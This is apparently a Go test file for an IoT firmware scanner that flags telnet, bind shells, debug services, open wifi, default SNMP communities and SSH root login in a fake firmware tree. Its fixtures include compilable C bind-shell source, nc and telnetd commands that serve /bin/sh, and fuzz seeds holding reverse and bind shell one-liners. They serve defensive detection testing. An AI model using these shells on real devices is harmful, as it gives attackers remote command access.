package surface

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/iotsec/iotsec/internal/inspect/check"
	"github.com/iotsec/iotsec/internal/inspect/inspecttest"
)

const shellback = `#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
int main(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0};
	a.sin_family = AF_INET; a.sin_port = htons(5515);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 1);
	int c = accept(s, 0, 0);
	dup2(c, 0); dup2(c, 1); dup2(c, 2);
	execl("/bin/sh", "sh", (char *)0);
	return 0;
}
`

func buildC(t *testing.T, src string) []byte {
	t.Helper()
	if _, err := exec.LookPath("gcc"); err != nil {
		t.Skip("gcc not installed (Debian package gcc)")
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.c"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	if b, err := exec.Command("gcc", "-o", filepath.Join(dir, "a"), filepath.Join(dir, "a.c")).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, b)
	}
	b, err := os.ReadFile(filepath.Join(dir, "a"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// tester renders findings with their line and checks that each has the
// file's hash in its evidence.
func tester() inspecttest.Tester {
	return inspecttest.New().
		BriefWith(inspecttest.BriefLine).
		ForEachFinding(func(t testing.TB, f check.Finding) {
			if f.Evidence.SHA256 == "" {
				t.Errorf("%s %s: no hash in evidence", f.Rule, f.Path)
			}
		})
}

func TestAnalyse(t *testing.T) {
	files := inspecttest.Files{
		// IoTGoat-like: rc.local starts telnet on a high port and a bind shell
		"squashfs-root/etc/rc.local":                     inspecttest.Text("# Put your custom commands here\n/usr/sbin/telnetd -p 65534\n/usr/bin/shellback &\nexit 0\n"),
		"squashfs-root/usr/bin/shellback":                {Data: buildC(t, shellback)},
		"squashfs-root/etc/inittab":                      inspecttest.Text("::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\nttyS0::askfirst:-/bin/ash --login\n"),
		"squashfs-root/etc/init.d/rcS":                   inspecttest.Text("#!/bin/sh\ntelnetd -l /bin/sh &\nbusybox tftpd -l /srv &\nkillall ftpd\n[ -x /usr/sbin/gdbserver ] && gdbserver :1234 /bin/app\nnc -l -p 4444 -e /bin/sh &\nhttpd -h /www\n"),
		"squashfs-root/lib/systemd/system/debug.service": inspecttest.Text("[Service]\nExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf\n"),
		"squashfs-root/etc/config/upnpd":                 inspecttest.Text("config upnpd 'config'\n\toption enabled '1'\n\toption secure_mode '0'\n"),
		"squashfs-root/etc/config/wireless":              inspecttest.Text("config wifi-iface 'default_radio0'\n\toption device 'radio0'\n\toption mode 'ap'\n\toption ssid 'OWASP IoTGoat'\n\toption encryption 'none'\n"),
		"squashfs-root/etc/config/dropbear":              inspecttest.Text("config dropbear\n\toption PasswordAuth 'on'\n\toption RootPasswordAuth 'on'\n\toption Port '22'\n"),
		"squashfs-root/etc/snmp/snmpd.conf":              inspecttest.Text("rocommunity public default\nrwcommunity private 10.0.0.0/8\n"),
		"squashfs-root/etc/ssh/sshd_config":              inspecttest.Text("PermitRootLogin yes\nPasswordAuthentication yes\n"),
	}
	tester().WithFiles(files).ExpectFindings(
		"surface.bind-shell squashfs-root/etc/init.d/rcS:6 critical 5.6-1,5.5-4",
		"surface.bind-shell squashfs-root/etc/rc.local:3 critical 5.6-1,5.5-4",
		"surface.debug-service squashfs-root/etc/init.d/rcS:5 high 5.6-4,5.6-1",
		"surface.debug-shell squashfs-root/etc/inittab:3 high 5.6-4",
		"surface.ftp squashfs-root/etc/init.d/rcS:3 medium 5.5-1,5.6-1",
		"surface.ftp squashfs-root/lib/systemd/system/debug.service:2 medium 5.5-1,5.6-1",
		"surface.open-wifi squashfs-root/etc/config/wireless:5 high 5.5-1",
		"surface.snmp-default-community squashfs-root/etc/snmp/snmpd.conf:1 medium 5.1-1,5.5-1",
		"surface.snmp-default-community squashfs-root/etc/snmp/snmpd.conf:2 high 5.1-1,5.5-1",
		"surface.ssh-password-auth squashfs-root/etc/ssh/sshd_config:2 low 5.1-5",
		"surface.ssh-root-login squashfs-root/etc/config/dropbear:1 medium 5.1-5,5.6-7",
		"surface.ssh-root-login squashfs-root/etc/ssh/sshd_config:1 medium 5.1-5,5.6-7",
		"surface.telnet squashfs-root/etc/init.d/rcS:2 critical 5.5-4,5.6-1",
		"surface.telnet squashfs-root/etc/rc.local:2 high 5.5-1,5.6-1",
		"surface.upnp-insecure squashfs-root/etc/config/upnpd:3 medium 5.5-5,5.6-1",
		"surface.web-server squashfs-root/etc/init.d/rcS:7 info 5.6-1",
	).Test(t, New())
}

func TestClean(t *testing.T) {
	files := inspecttest.Files{
		"etc/inittab":         inspecttest.Text("::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"),
		"etc/init.d/rcS":      inspecttest.Text("#!/bin/sh\n# telnetd -l /bin/sh for debugging (disabled)\nkillall telnetd\ndropbear -s -g\n"),
		"etc/config/upnpd":    inspecttest.Text("config upnpd 'config'\n\toption enabled '1'\n\toption secure_mode '1'\n"),
		"etc/config/wireless": inspecttest.Text("config wifi-iface\n\toption mode 'ap'\n\toption encryption 'psk2'\n\toption key 'x'\n"),
		"etc/config/dropbear": inspecttest.Text("config dropbear\n\toption RootPasswordAuth 'off'\n"),
		"etc/ssh/sshd_config": inspecttest.Text("PermitRootLogin prohibit-password\nPasswordAuthentication no\n"),
		"usr/bin/telnetd":     inspecttest.Text("binary present but never started"),
	}
	tester().WithFiles(files).ExpectNoFindings().Test(t, New())
}

func FuzzParseUCI(f *testing.F) {
	f.Add([]byte("config wifi-iface 'x'\n\toption encryption 'none'\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		parseUCI(b)
		keyValues(b)
		segments(string(b))
	})
}

func FuzzShellKind(f *testing.F) {
	for _, s := range []string{"nc -l -p 4444 -e /bin/sh &", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1", "socat TCP-LISTEN:1,fork EXEC:sh",
		"cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1 > /tmp/f", "start-stop-daemon -S -x /bin/nc -- -l -e sh"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		shellKind(line)
		program(words(line))
	})
}
